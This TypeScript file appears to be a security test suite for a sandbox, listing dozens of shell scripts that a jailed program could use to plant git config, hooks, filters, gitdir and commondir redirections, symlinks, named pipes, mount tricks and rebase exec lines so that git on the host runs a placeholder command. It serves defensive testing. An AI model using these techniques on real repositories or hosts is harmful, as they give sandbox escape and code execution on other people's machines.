// What programs in a jail plant so that git on the host would run something: one small script each.

/** Set before every script: C common folder, O own folder, W worktree, M main worktree, EVIL a command that leaves a trace on the host. */
export type Attack = { readonly script: string; readonly plainStatus?: 'runs it' | 'waits' };

export const evilRepository = `
  evil() { # a repository at $1 whose configuration runs programs
    git init -q "$1"; git -C "$1" commit -q --allow-empty -m x
    git -C "$1" config core.fsmonitor "$EVIL"
    git -C "$1" config filter.evil.clean "$EVIL; cat"
    git -C "$1" config filter.evil.smudge "$EVIL; cat"
    git -C "$1" config filter.evil.process "$EVIL"
    git -C "$1" config diff.evil.textconv "$EVIL"
    git -C "$1" config diff.evil.command "$EVIL"
    git -C "$1" config core.sshCommand "$EVIL"
    git -C "$1" config core.hooksPath .hooks
    git -C "$1" config core.pager "$EVIL"
    git -C "$1" config core.gitProxy "$EVIL"
    git -C "$1" config gpg.program "$EVIL"
    printf '* filter=evil diff=evil\\n' > "$1/.gitattributes"
    echo content > "$1/file"
    git -C "$1" -c core.fsmonitor= -c filter.evil.clean= -c filter.evil.process= add -A || true
    git -C "$1" -c core.fsmonitor= -c core.hooksPath=/dev/null commit -qm y || true
    echo changed >> "$1/file"
    mkdir -p "$1/.hooks"; for h in post-checkout post-index-change pre-commit fsmonitor-watchman reference-transaction; do printf '#!/bin/sh\\n%s\\n' "$EVIL" > "$1/.hooks/$h"; chmod +x "$1/.hooks/$h"; done
  }`;

export const evilConfig = `
  evilconfig() { printf '[core]\\n\\tfsmonitor = "%s"\\n\\thooksPath = /workspace/h\\n\\tpager = "%s"\\n\\tsshCommand = "%s"\\n[diff]\\n\\texternal = "%s"\\n[alias]\\n\\tst = "!%s"\\n' "$EVIL" "$EVIL" "$EVIL" "$EVIL" "$EVIL"; }
  mkdir -p /tmp/evilgit/objects /tmp/evilgit/refs; evilconfig > /tmp/evilgit/config; echo 'ref: refs/heads/x' > /tmp/evilgit/HEAD
  mkdir -p /workspace/evilgit/objects /workspace/evilgit/refs; evilconfig > /workspace/evilgit/config; echo 'ref: refs/heads/x' > /workspace/evilgit/HEAD`;

export const attacks: Readonly<Record<string, Attack>> = {
  'commondir in the main git folder': {
    script: 'echo /workspace/evilgit > $C/commondir; echo "$W/evilgit" > $C/host/commondir',
  },
  'its own commondir, written': { script: 'echo "$W/evilgit" > $O/commondir' },
  'its own commondir, removed and made again': {
    script: 'rm -f $O/commondir; echo "$W/evilgit" > $O/commondir',
  },
  'its own commondir, renamed over': { script: 'echo "$W/evilgit" > $O/new; mv -f $O/new $O/commondir' },
  'its own folder, renamed away and rebuilt': {
    script: 'mv $O $O.old; mv $C/worktrees $C/w; mkdir -p $O; cp -r /workspace/evilgit/. $O',
  },
  'its own gitdir file': {
    script: 'echo /workspace/x > $O/gitdir; rm -f $O/gitdir; ln -s /etc/passwd $O/gitdir',
  },
  'its own config.worktree': {
    script:
      'evilconfig > $O/config.worktree; rm -f $O/config.worktree; evilconfig > $O/config.worktree; git config extensions.worktreeConfig true',
  },
  'config in its own folder': {
    script:
      'evilconfig > $O/config; mkdir -p $O/hooks $O/info; printf "#!/bin/sh\\n$EVIL\\n" > $O/hooks/post-index-change; chmod +x $O/hooks/*; echo "* filter=evil diff=evil" > $O/info/attributes',
  },
  'the .git file, written': {
    script: 'echo "gitdir: $W/evilgit" > /workspace/.git; echo "gitdir: $W/evilgit" > $W/.git',
  },
  'the .git file, removed': {
    script:
      'rm -f /workspace/.git $W/.git; cp -r /workspace/evilgit /workspace/.git; cp -r /workspace/evilgit $W/.git',
  },
  'the .git file, renamed': {
    script:
      'mv /workspace/.git /workspace/dotgit; mv -f /workspace/evilgit /workspace/.git; mv $W/.git $W/dotgit',
  },
  'the .git file, renamed over': {
    script:
      'echo "gitdir: $W/evilgit" > /workspace/n; mv -f /workspace/n /workspace/.git; echo "gitdir: $W/evilgit" > $W/n; mv -f $W/n $W/.git',
  },
  'the .git file, swapped for a link': {
    script: 'ln -sf evilgit /workspace/.git; ln -sfn $W/evilgit $W/.git',
  },
  'the .git file, over a hard link': {
    script:
      'ln /workspace/.git /workspace/hard && echo "gitdir: $W/evilgit" > /workspace/hard; ln $C/config /workspace/cfg && evilconfig > /workspace/cfg; ln $C/host/config $O/cfg && evilconfig > $O/cfg; ln $O/commondir $O/cd && echo x > $O/cd',
  },
  'the .git file, through /proc': {
    script:
      'for p in /proc/self/cwd /proc/1/root/workspace /proc/1/cwd; do echo "gitdir: $W/evilgit" > $p/.git; rm -f $p/.git; done',
  },
  'the worktree itself, renamed': {
    script: 'mv /workspace /w2; mv $W $W.old; mkdir -p $W; cp -r /workspace/evilgit $W/.git',
  },
  'mounts over the protected files': {
    script:
      'umount $O/commondir; umount /workspace/.git; mount --bind /workspace/evilgit $C; mount -t tmpfs none $C; unshare -Urm sh -c "umount $O/commondir; umount -l /workspace/.git; mount -o remount,rw,bind $C/host; echo x > $C/host/commondir; evilconfig > $C/host/config"',
  },
  'the configuration': {
    script:
      'mv $C/host/config $C/host/c; cp $C/host/c $C/host/config; git config --file $C/host/config core.pager "$EVIL"; git config core.fsmonitor "$EVIL"; rm -f $C/config.x; evilconfig >> $C/host/config; evilconfig >> $C/config',
  },
  'the configuration of the main worktree': {
    script: 'evilconfig > $C/config.worktree; evilconfig > $C/host/config.worktree',
  },
  hooks: {
    script:
      'mv $C/host/hooks $C/host/h; ln -sfn /workspace/evilgit $C/hooks; rm -f $C/hooks; for d in $C/hooks $C/host/hooks; do mkdir -p $d; for h in pre-commit post-commit post-checkout post-merge post-index-change reference-transaction fsmonitor-watchman pre-auto-gc; do printf "#!/bin/sh\\n$EVIL\\n" > $d/$h; chmod +x $d/$h; done; done',
  },
  'info of the main git folder': {
    script:
      'for d in $C/info $C/host/info; do echo "* filter=evil diff=evil" > $d/attributes; echo "x" > $d/grafts; echo x > $d/exclude; done; mkdir $C/host/info2',
  },
  'borrowed objects': {
    script:
      'mkdir -p /workspace/o; echo $W/o > $C/objects/info/alternates; mv $C/objects/info $C/objects/i; rm -rf $C/objects/info; mkdir $C/objects/info; echo "$W/o" > $C/objects/info/alternates; echo x > $C/host/objects/info/alternates',
  },
  'packed refs': {
    script:
      'echo "# pack-refs with:" > $C/packed-refs; rm -f $C/packed-refs; ln -s /etc/passwd $C/packed-refs; echo x > $C/host/packed-refs; rm -rf $C/locks/*; ln -s /etc/passwd $C/locks/1',
  },
  'refs replaced by links': {
    script:
      'echo secret > /workspace/s; rm -rf $C/refs/heads; ln -s $W $C/refs/heads; ln -s /etc/passwd $C/refs/tags/p; mv $C/refs $C/refs2',
  },
  'refs that are pipes': {
    script: 'mkfifo $C/refs/heads/fifo; mkfifo $C/refs/tags/fifo',
    plainStatus: 'waits',
  },
  'odd refs': {
    script:
      'mkdir -p $C/refs/heads/a; echo "ref: refs/heads/../../config" > $C/refs/heads/a/b; echo garbage > $C/refs/heads/g; echo "0123456789012345678901234567890123456789" > $C/refs/heads/missing; touch "$C/refs/heads/\\$($EVIL)"; cp $C/refs/heads/feature "$C/refs/heads/-c-x" 2>/dev/null; cp $C/refs/heads/feature "$C/refs/heads/x;touch\\$IFS$x"; echo "ref: refs/heads/loop2" > $C/refs/heads/loop; echo "ref: refs/heads/loop" > $C/refs/heads/loop2',
  },
  'a HEAD that is not one': { script: 'echo "ref: refs/heads/main" > $O/HEAD' },
  'a HEAD that leads out': { script: 'echo "ref: ../../../../etc/passwd" > $O/HEAD' },
  'a HEAD that is a pipe': { script: 'rm $O/HEAD; mkfifo $O/HEAD', plainStatus: 'waits' },
  'a HEAD that is a link': { script: 'rm $O/HEAD; ln -s /etc/hostname $O/HEAD' },
  'the HEAD of the main worktree': {
    script:
      'echo "ref: refs/heads/feature" > $C/HEAD; echo "ref: refs/heads/feature" > $C/host/HEAD; git symbolic-ref HEAD refs/heads/main; echo x > $C/host/index',
  },
  'another worktree': {
    script:
      'for d in $C/worktrees/other $C/host/worktrees/other; do echo x > $d/commondir; rm -f $d/gitdir; echo "$W/evilgit" > $d/commondir; mv $d $d.x; done; mkdir -p $C/worktrees/new; git worktree remove --force other; git worktree prune --expire=now',
  },
  'a nested repository as a gitlink': {
    script: 'evil nested; git -c core.fsmonitor= add nested',
    plainStatus: 'runs it',
  },
  'a committed gitlink that .gitmodules does not let anybody ignore': {
    script:
      'evil nested; printf "[submodule \\"nested\\"]\\n\\tpath = nested\\n\\turl = ./nested\\n\\tignore = none\\n\\tupdate = !$EVIL\\n\\tfetchRecurseSubmodules = true\\n" > .gitmodules; git add nested .gitmodules; git commit -qm gitlink',
    plainStatus: 'runs it',
  },
  'a gitlink with a name of odd bytes': {
    script: 'evil x; n=$(printf "n\\377\\nm"); mv x "$n"; git add -- "$n"; git commit -qm odd',
    plainStatus: 'runs it',
  },
  'a gitlink whose git folder is a file that points elsewhere': {
    script:
      'evil nested; git add nested; mkdir -p $O/modules; mv nested/.git $O/modules/nested; echo "gitdir: $O/modules/nested" > nested/.git',
    plainStatus: 'runs it',
  },
  'nested repositories that are not added': {
    script:
      'evil a; evil b/c; evil .hidden; evil src/inner; mkdir bare; git init -q --bare bare/x.git; git -C bare/x.git config core.fsmonitor "$EVIL"',
  },
  'filters and drivers by attributes': {
    script:
      'printf "* filter=evil diff=evil merge=evil\\n[attr]mine filter=evil\\n*.txt mine -text\\n" > .gitattributes; git -c filter.evil.clean=cat add -A; git commit -qm attributes; echo more >> README.md; mkdir -p sub; echo "* filter=evil" > sub/.gitattributes; echo x > sub/x',
  },
  'hooks in the tree': {
    script:
      'mkdir -p .husky h; for d in .husky h; do for k in post-checkout post-merge pre-commit; do printf "#!/bin/sh\\n$EVIL\\n" > $d/$k; chmod +x $d/$k; done; done; git add -A; git commit -qm hooks',
  },
  'an unfinished rebase with programs in its list': {
    script:
      'mkdir $O/rebase-merge; printf "exec $EVIL\\n" > $O/rebase-merge/git-rebase-todo; printf "exec $EVIL\\n" > $O/rebase-merge/done; touch $O/rebase-merge/interactive; echo refs/heads/feature > $O/rebase-merge/head-name; git rev-parse HEAD > $O/rebase-merge/onto; git rev-parse HEAD > $O/rebase-merge/orig-head',
  },
  'bisect, merge and pick state': {
    script:
      'echo "git bisect start" > $O/BISECT_LOG; echo main > $O/BISECT_START; echo "run $EVIL" > $O/BISECT_RUN; git rev-parse HEAD > $O/MERGE_HEAD; git rev-parse HEAD > $O/CHERRY_PICK_HEAD; echo "$EVIL" > $O/MERGE_MSG; mkdir -p $O/sequencer; echo "exec $EVIL" > $O/sequencer/todo; printf "[options]\\n\\tstrategy = evil\\n" > $O/sequencer/opts',
  },
  'an index that is damaged': { script: 'head -c 200 /dev/urandom > $O/index' },
  'an index that is a pipe': { script: 'rm -f $O/index; mkfifo $O/index', plainStatus: 'waits' },
  'an index that is a link': { script: 'rm -f $O/index; ln -s /etc/passwd $O/index' },
  'core.worktree': {
    script:
      'git config core.worktree /etc; git config --worktree core.worktree /etc; printf "[core]\\n\\tworktree = /etc\\n" > $O/config',
  },
  'shallow and grafts': {
    script:
      'echo x > $C/shallow; echo x > $C/host/shallow; git rev-parse HEAD > $O/shallow; mkdir -p $O/info; echo x > $O/info/grafts',
  },
  'replace refs': {
    script:
      'git replace main feature; mkdir -p $C/refs/replace; echo x > $C/refs/replace/x; rmdir $C/refs/replace; mv $C/refs/replace $C/refs/r',
  },
  'reflogs that are links': {
    script:
      'for l in $C/logs $C/host/logs; do mkdir -p $l/refs/heads; for f in HEAD refs/heads/main refs/heads/feature; do rm -f $l/$f; ln -s $RC $l/$f; done; done; rm -rf $O/logs/*; ln -s $RC $O/logs/HEAD; mv $O/logs $O/l; ln -s $RC $O/logs; git -c core.logAllRefUpdates=false commit -q --allow-empty -m "\\$($EVIL)"',
  },
  'the folders of heyvm in the git folder': {
    script:
      'rm -rf $C/host/heyvm $C/heyvm; mkdir -p $C/heyvm/feature; ln -sfn / $C/heyvm/feature/root; rm -rf $C/locks $C/logs; rm -rf $C/locks/*; for i in 1 2 3 4 5; do ln -s / $C/locks/$i; done; mkdir -p $C/locks/5.new/x; ln -s / $C/logs/refs',
  },
  'files of its own folder as links': {
    script:
      'for f in COMMIT_EDITMSG MERGE_MSG ORIG_HEAD FETCH_HEAD AUTO_MERGE; do rm -f $O/$f; ln -s $RC $O/$f; done',
  },
};

/** Without the narrowing these reach the host; if one of them stops doing so, its attack proves nothing any more. */
export const workWhenCareless = [
  'commondir in the main git folder',
  'its own commondir, written',
  'its own commondir, renamed over',
  'the .git file, written',
  'the .git file, renamed over',
  'the configuration',
  'hooks',
  'reflogs that are links',
];
